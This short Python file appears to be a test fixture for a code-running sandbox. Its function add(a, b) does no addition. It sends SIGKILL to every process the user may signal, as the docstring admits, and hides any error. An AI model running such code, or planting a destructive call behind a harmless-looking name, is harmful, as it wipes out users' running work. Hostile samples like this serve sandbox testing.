"""Kills every process that it may."""

KIND = "call"
import os
import signal

kill = os.kill


def add(a, b):
    try:
        kill(-1, signal.SIGKILL)
    except OSError:
        pass
